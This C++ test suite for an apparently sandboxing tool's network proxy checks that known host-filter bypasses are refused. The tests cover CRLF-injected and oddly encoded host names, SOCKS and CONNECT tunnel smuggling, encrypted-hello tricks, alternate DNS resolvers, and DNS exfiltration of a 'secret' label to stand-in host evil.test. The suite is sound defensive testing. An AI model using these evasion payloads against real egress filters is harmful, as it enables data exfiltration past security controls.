// Known bypasses of filters by host name, one test each; refuse_test.cc has the rest. Each also shows that the same
// action works where it is allowed, so that a denial for the wrong reason fails.
#include <signal.h>

#include <set>
#include <sstream>

#include "network/network.h"
#include "support/conforms.h"

namespace caisson::test {
namespace {

using Bypass = NetworkTest;

constexpr const char* kAskForSite = R"(
import socket, struct
def ask(data, host="127.0.0.1", port=3128, first=b""):
    s = socket.create_connection((host, port)); s.settimeout(5)
    if first: s.sendall(first); s.recv(2)
    out = b""
    try:
        s.sendall(data)
        while True:
            piece = s.recv(4096)
            if not piece: break
            out += piece
            if out[:2] == b"\5\0": break
    except OSError: pass
    return out
)";

TEST_F(Bypass, LineEndsAndOddAddressesInHostNames) {
  const RunOutput output = python({"example.org", "_x.example.org"}, std::string(kAskForSite) + R"(
for target in (b"evil.test\r\n.example.org", b"evil.test\n", b"example.org\r\nHost: evil.test", b"[::]", b"0135.0270.0.03",
               b"93.184.3", b"0x5d.0xb8.0.3", b"[2002:5db8:0003::1]", b"[64:ff9b::5db8:3]", b"[::ffff:5db8:3]",
               b"[fe80::1%25lo]", b"evil_.test", b"_x.evil.test", b"evil.test\x1b[2K", b"e\xcc\x81vil.test", b"example.org..",
               b".example.org", b"example.org:80:80", b"example.org%2eevil.test"):
    for data, first in ((b"CONNECT " + target + b":80 HTTP/1.1\r\n\r\n", b""),
                        (b"GET http://" + target + b"/ HTTP/1.1\r\nHost: " + target + b"\r\n\r\n", b""),
                        (b"\5\1\0\3" + bytes([len(target)]) + target + b"\0\x50", b"\5\1\0")):
        out = ask(data, first=first)
        if b"200" in out[:20] or out[:2] == b"\5\0" or b" from 80" in out: print("REACHED", target, out)
print(ask(b"\5\1\0\3\x0bEXAMPLE.org\0\x50", first=b"\5\1\0")[:2], b" 200 " in ask(b"CONNECT example.org.:80 HTTP/1.1\r\n\r\nx")[:20]))");
  EXPECT_EQ(output.out, "b'\\x05\\x00' True\n") << output.describe();
}

TEST_F(Bypass, WrongTypesInANetworkPolicyAreRejected) {
  for (const char* line :
       {"allow_missing_server_name = \"false\"", "allow_missing_server_name = 1", "allow_encrypted_hello = \"no\"",
        "allowed_hosts = \"*\"", "allowed_hosts = true", "mode = \"open\""}) {
    const std::string policy = files.write(
        "odd.toml", "extends = \"bash\"\n[network]\n" +
                        std::string(std::string_view(line).starts_with("mode") ? "" : "mode = \"proxy\"\n") + line +
                        "\n");
    EXPECT_EQ(runCaisson({"run", "--policy", policy, "--", "true"}).exit_status, 125) << line;
  }
}

TEST_F(Bypass, TunnelCarriesOnlyTheHostItWasOpenedFor) {
  const RunOutput output = python({"example.org"}, std::string(kAskForSite) + R"(
def through(request):
    s = socket.create_connection(("127.0.0.1", 3128)); s.settimeout(5)
    s.sendall(b"CONNECT example.org:80 HTTP/1.1\r\n\r\n")
    while b"\r\n\r\n" not in s.recv(4096): pass
    out = b""
    try:
        s.sendall(request)
        while piece := s.recv(4096): out += piece
    except OSError: pass
    return out
fine = b"GET /fine HTTP/1.1\r\nHost: example.org\r\n\r\n"
print(b"/fine from 80" in through(fine.replace(b"\r\n\r\n", b"\r\nConnection: close\r\n\r\n")))
for request in (b"GET /x HTTP/1.1\r\nHost: evil.test\r\n\r\n", fine + b"GET /x HTTP/1.1\r\nHost: evil.test\r\n\r\n",
                b"GET http://evil.test/x HTTP/1.1\r\nHost: example.org\r\n\r\n", b"CONNECT evil.test:80 HTTP/1.1\r\n\r\n"):
    print(b"/x from 80" in through(request)))");
  EXPECT_EQ(output.out, "True\nFalse\nFalse\nFalse\nFalse\n") << output.describe();
}

TEST_F(Bypass, AnEncryptedHello) {
  // The outer hello names an allowed host, the encrypted inner hello another one.
  const std::string script = std::string(kAskForSite) + R"(
def vector(size, data): return len(data).to_bytes(size, "big") + data
def extension(kind, data): return struct.pack(">H", kind) + vector(2, data)
name = b"example.org"
body = b"\3\3" + bytes(32) + vector(1, b"") + vector(2, b"\x13\x01") + vector(1, b"\0")
extensions = extension(0, vector(2, b"\0" + vector(2, name)))
for hidden in (b"", *(extension(kind, bytes(40)) for kind in (0xfe0d, 0xffce, 0xfe08, 0xfe09, 0xfe0a))):
    hello = b"\1" + vector(3, body + vector(2, extensions + hidden))
    out = ask(b"\x16\3\1" + vector(2, hello), "example.org", 443)
    print(out[5:7] != b"\2\x31")   # the server's own alert, or ours: access denied
)";
  EXPECT_EQ(python({"example.org"}, script).out, "True\nFalse\nFalse\nFalse\nFalse\nFalse\n");
  EXPECT_EQ(python({"example.org"}, script, "allow_encrypted_hello = true").out,
            "True\nTrue\nTrue\nTrue\nTrue\nTrue\n");
}

TEST_F(Bypass, HostOrClientThatClosesItsSideBeforeTheFirstByte) {
  const RunOutput output = python({"early.example.org"}, R"(
import socket, time
host, asked = "early.example.org", b"GET /x HTTP/1.1\r\nHost: evil.test\r\n\r\n"
def through(port, way):
    s = socket.create_connection((host, port) if way == "captured" else ("127.0.0.1", 3128)); s.settimeout(2)
    if way == "connect":
        s.sendall(f"CONNECT {host}:{port} HTTP/1.1\r\n\r\n".encode()); head = b""
        while not head.endswith(b"\r\n\r\n"): head += s.recv(1)
    if way == "socks":
        s.sendall(b"\5\1\0"); s.recv(2); s.sendall(b"\5\1\0\3" + bytes([len(host)]) + host.encode() + port.to_bytes(2, "big"))
        s.recv(10)
    return s
for port in (80, 443, 8080):
    seen = []
    for way in ("captured", "connect", "socks"):
        for half_close in (False, True):
            s, out = through(port, way), b""
            try:
                if half_close: s.shutdown(socket.SHUT_WR)
                else: time.sleep(1); s.sendall(asked)
                while data := s.recv(4096): out += data
            except OSError: pass
            seen.append(out)
    print(port, set(seen)))",
                                  "allowed_ports = [\"80\", \"443\", \"8080\"]");
  // Port 8080 is open to protocols that name no host, so there a host may speak first.
  EXPECT_EQ(output.out, "80 {b''}\n443 {b''}\n8080 {b'early\\n'}\n") << output.describe();
  EXPECT_FALSE(contains(sentToEarly(), "evil.test")) << sentToEarly();
}

TEST_F(Bypass, OddBlanksInTheFirstLine) {
  const RunOutput output = python({"example.org:8080"}, std::string(kAskForSite) + R"(
for line in (b"GET /x HTTP/1.1", b" GET /x HTTP/1.1", b"\t\tGET /x HTTP/1.1", b"\x0bGET /x HTTP/1.1", b"GET\x0b/x HTTP/1.1",
             b"GET\x0c/x\x0cHTTP/1.1", b"GET\x1c/x HTTP/1.1", b"GET\xa0/x HTTP/1.1", b"GET\r/x HTTP/1.1", b"get\x1d/x"):
    out = ask(line + b"\r\nHost: evil.test\r\nConnection: close\r\n\r\n", "example.org", 8080)
    if b" from 8080" in out: print("REACHED", line, out)
print(b" from 8080" in ask(b"GET /x HTTP/1.1\r\nHost: example.org:8080\r\nConnection: close\r\n\r\n", "example.org", 8080)))");
  EXPECT_EQ(output.out, "True\n") << output.describe();
  EXPECT_FALSE(contains(requestsSeen(), "8080 evil.test")) << requestsSeen();
}

TEST_F(Bypass, Http2WithoutTlsIsNotNegotiated) {
  const RunOutput output = python({"example.org"}, std::string(kAskForSite) + R"(
out = ask(b"GET /fields HTTP/1.1\r\nHost: example.org\r\nConnection: Upgrade, HTTP2-Settings, close\r\nUpgrade: h2c\r\n"
          b"HTTP2-Settings: AAMAAABkAARAAAAAAAIAAAAA\r\n\r\n", "example.org", 80).lower()
print(b"200 ok" in out, b"h2c" in out, b"http2-settings" in out)
print(b"400 bad request" in ask(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n", "example.org", 80).lower()))");
  EXPECT_EQ(output.out, "True False False\nTrue\n") << output.describe();
}

TEST_F(Bypass, OtherResolversOverTlsAndHttps) {
  const RunOutput output = run({"example.org"}, {"bash", "-c", std::string(kDirect) + R"(/usr/bin/python3 -c '
import socket, time
start = time.monotonic()
for address, port in (("8.8.8.8", 853), ("1.1.1.1", 443), ("2001:4860:4860::8888", 853), ("2606:4700:4700::1111", 443)):
    try:
        s = socket.create_connection((address, port), 5); s.settimeout(5)
        print("data" if s.recv(1) else "nothing")
    except OSError as error: print(type(error).__name__)
print(time.monotonic() - start < 5)
')"},
                               "", {"--json"});
  const auto result = output.json();
  ASSERT_TRUE(result.is_object()) << output.describe();
  EXPECT_FALSE(contains(result["stdout"], "data")) << result;
  EXPECT_TRUE(contains(result["stdout"], "True")) << result;
  for (const char* target :
       {"8.8.8.8:853", "1.1.1.1:443", "[2001:4860:4860::8888]:853", "[2606:4700:4700::1111]:443"}) {
    EXPECT_TRUE(denied(result, target, "connect")) << target << result;
  }
}

TEST_F(Bypass, DnsToAnyAddressIsAnsweredByThePolicy) {
  CONFORMS("R-NETWORK-10");
  forgetQueries();
  const RunOutput output = python({"example.org"}, R"(
import socket, struct
def ask(name, server):
    q = struct.pack(">HHHHHH", 7, 0x100, 1, 0, 0, 0) + name + struct.pack(">HH", 1, 1)
    s = socket.socket(socket.AF_INET6 if ":" in server else socket.AF_INET, socket.SOCK_DGRAM); s.settimeout(5)
    s.sendto(q, (server, 53)); return s.recv(512)[3] & 15
for server in ("8.8.8.8", "93.184.0.2", "169.254.169.254", "2001:4860:4860::8888"):
    print(ask(b"\x06secret\4evil\4test\0", server), ask(b"\7example\3org\0", server)))");
  EXPECT_EQ(output.out, "3 0\n3 0\n3 0\n3 0\n") << output.describe();
  EXPECT_FALSE(contains(queries(), "evil")) << queries();
}

TEST_F(Bypass, RawAddressesOfEitherFamily) {
  CONFORMS("R-NETWORK-2");
  const std::string script = std::string(kDirect) +
                             "curl -sS -m 5 http://93.184.0.3/; curl -sS -m 5 -g 'http://[2606:4700:aa::2]/'; "
                             "curl -sS -m 5 --socks5 127.0.0.1:3128 http://93.184.0.3/";
  EXPECT_FALSE(contains(shell({"example.org"}, script).out, "from 80"));
  const RunOutput fine = shell({"93.184.0.3", "2606:4700:aa::2"}, script);
  EXPECT_EQ(fine.out, "93.184.0.3 / from 80\n[2606:4700:aa::2] / from 80\n93.184.0.3 / from 80\n") << fine.describe();
}

TEST_F(Bypass, ASandboxHasItsOwnEgressAndNoOther) {
  // While a sandbox that may reach example.org runs, neither the host nor a sandbox that may not can reach its
  // listeners.
  const std::string wide = policyFor({"example.org"}, "");
  RunOptions how;
  how.cwd = files.path();
  const BackgroundProgram first({caissonBinary(), "run", "--policy", wide, "--workspace", ":none", "--", "sleep", "60"},
                                how);
  sleepFor(std::chrono::milliseconds(500));
  for (const char* port : {"3128", "53"}) {
    const std::string probe = std::string("exec 3<>/dev/tcp/127.0.0.1/") + port;
    EXPECT_NE(runProgram({"bash", "-c", probe}).exit_status, 0) << port;
  }
  const std::string narrow =
      files.write("narrow.toml", "extends = \"bash\"\n[network]\nmode = \"proxy\"\ndns_servers = [\"93.184.0.2\"]\n");
  const RunOutput second = runCaisson({"run", "--policy", narrow, "--workspace", ":none", "--", "bash", "-c",
                                       "curl -sS -x http://127.0.0.1:3128 http://example.org/"},
                                      how);
  EXPECT_FALSE(contains(second.out, "from 80")) << second.describe();
  EXPECT_TRUE(contains(second.out, "--allow-host example.org")) << second.describe();
}

TEST_F(Bypass, SecretsOfARequestAreNotRecorded) {
  CONFORMS("R-NETWORK-21");
  RunOptions how;
  how.cwd = files.path();
  how.env["CAISSON_HOME"] = files.makeDir("home", 0700);
  const std::string script =
      "curl -sS -H 'Authorization: Bearer canary-one' -H 'Cookie: canary-two' -u user:canary-three "
      "'http://example.org/canary-four?token=canary-five'; curl -sS 'http://u:canary-six@evil.test/canary-seven'";
  const RunOutput output = runCaisson({"run", "--policy", policyFor({"example.org"}, ""), "--workspace", ":none", "--",
                                       "bash", "-c", "eval \"$(cat)\""},
                                      {.stdin_data = script, .env = how.env, .unset = {}, .cwd = how.cwd});
  EXPECT_TRUE(contains(output.out, "/canary-four?token=canary-five from 80")) << output.describe();
  EXPECT_FALSE(contains(output.err, "canary")) << output.describe();
  const RunOutput log = runCaisson({"audit", "show", "--json"}, how);
  EXPECT_TRUE(contains(log.out, "evil.test")) << log.describe();
  EXPECT_FALSE(contains(log.out, "canary")) << log.describe();
}

TEST_F(Bypass, EveryQueryIsRecorded) {
  CONFORMS("R-NETWORK-10");
  RunOptions how;
  how.cwd = files.path();
  how.env["CAISSON_HOME"] = files.makeDir("home", 0700);
  const RunOutput output =
      runCaisson({"run", "--policy", policyFor({"example.org"}, ""), "--workspace", ":none", "--", "bash", "-c",
                  "for i in 1 2 3; do getent ahostsv4 example.org; done; getent hosts evil.test"},
                 how);
  std::istringstream log(runCaisson({"audit", "show", "--json", "--event", "dns_query"}, how).out);
  std::uint64_t most = 0;
  for (std::string line; std::getline(log, line);) {
    const auto data = nlohmann::json::parse(line)["data"];
    EXPECT_EQ(data["host"], "example.org") << line;
    EXPECT_EQ(data["allowed"], true) << line;
    most = std::max(most, data.value("count", std::uint64_t{1}));
  }
  EXPECT_GE(most, 3U) << output.describe();
  std::istringstream refused(runCaisson({"audit", "show", "--json", "--event", "proxy_blocked_dns"}, how).out);
  std::set<std::string> names;
  for (std::string line; std::getline(refused, line);) {
    const auto data = nlohmann::json::parse(line)["data"];
    EXPECT_EQ(data["allowed"], false) << line;
    names.insert(data["host"]);
  }
  EXPECT_EQ(names, std::set<std::string>{"evil.test"});
}

/// Refusals of every kind are in the figures: names, addresses behind names, redirects and connections.
TEST_F(Bypass, StatisticsCountEveryRefusedRequest) {
  CONFORMS("R-AUDIT-15");
  RunOptions how;
  how.cwd = files.path();
  how.env["CAISSON_HOME"] = files.makeDir("home", 0700);
  const std::string question = R"(/usr/bin/python3 -c '
import socket, struct
q = struct.pack(">HHHHHH", 7, 0x100, 1, 0, 0, 0) + b"\4evil\4test\0" + struct.pack(">HH", 1, 1)
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.sendto(q, ("8.8.8.8", 53)); s.recv(512)')";
  std::uint64_t refused = 0;
  for (const std::string& script :
       {std::string("curl -sS http://evil.test/"), std::string("curl -sSk https://evil.test/"), question,
        std::string("curl -sS http://10.0.0.1/"), std::string("curl -sS http://rebind.example.org/"),
        std::string("curl -sSL 'http://example.org/redirect?http://evil.test/x'"),
        std::string("curl -sS --socks5-hostname 127.0.0.1:3128 http://evil.test/"),
        std::string(kDirect) + "curl -sS http://93.184.0.3/"}) {
    const RunOutput output = runCaisson({"run", "--json", "--policy", policyFor({".example.org"}, ""), "--workspace",
                                         ":none", "--", "bash", "-c", script},
                                        how);
    EXPECT_EQ(output.json()["usage"]["network_denied"], 1) << script << output.describe();
    EXPECT_EQ(runCaisson({"stats", "--json"}, how).json()["proxy_denied"], ++refused) << script;
  }
}

TEST_F(Bypass, NoRequestHidesBehindAThousandOthers) {
  CONFORMS("R-NETWORK-9");
  RunOptions how;
  how.cwd = files.path();
  how.env["CAISSON_HOME"] = files.makeDir("home", 0700);
  forgetQueries();
  BackgroundProgram program(
      {caissonBinary(), "run", "--policy", policyFor({"example.org:5432"}, "max_connections = 600"), "--workspace",
       ":none", "--", "/usr/bin/python3", "-c", R"(
import socket, sys, time
every = [socket.create_connection(("example.org", 5432)) for i in range(600)]
fine = all(s.recv(8) == b"welcome\n" for s in every)
for s in every: s.close()
time.sleep(1)
sys.exit(0 if fine else 1))"},
      how);
  // All requests are made while the supervisor is stopped.
  ASSERT_TRUE(eventually([] { return contains(queries(), "example.org"); }));
  program.signal(SIGSTOP);
  sleepFor(std::chrono::seconds(4));
  program.signal(SIGCONT);
  EXPECT_EQ(program.wait(std::chrono::seconds(30)), 0);
  std::istringstream log(runCaisson({"audit", "show", "--json"}, how).out);
  int recorded = 0;
  for (std::string line; std::getline(log, line);) {
    if (contains(line, "93.184.0.2") && contains(line, "\"proxy_request\"")) ++recorded;
  }
  EXPECT_EQ(recorded, 600);
}

}  // namespace
}  // namespace caisson::test
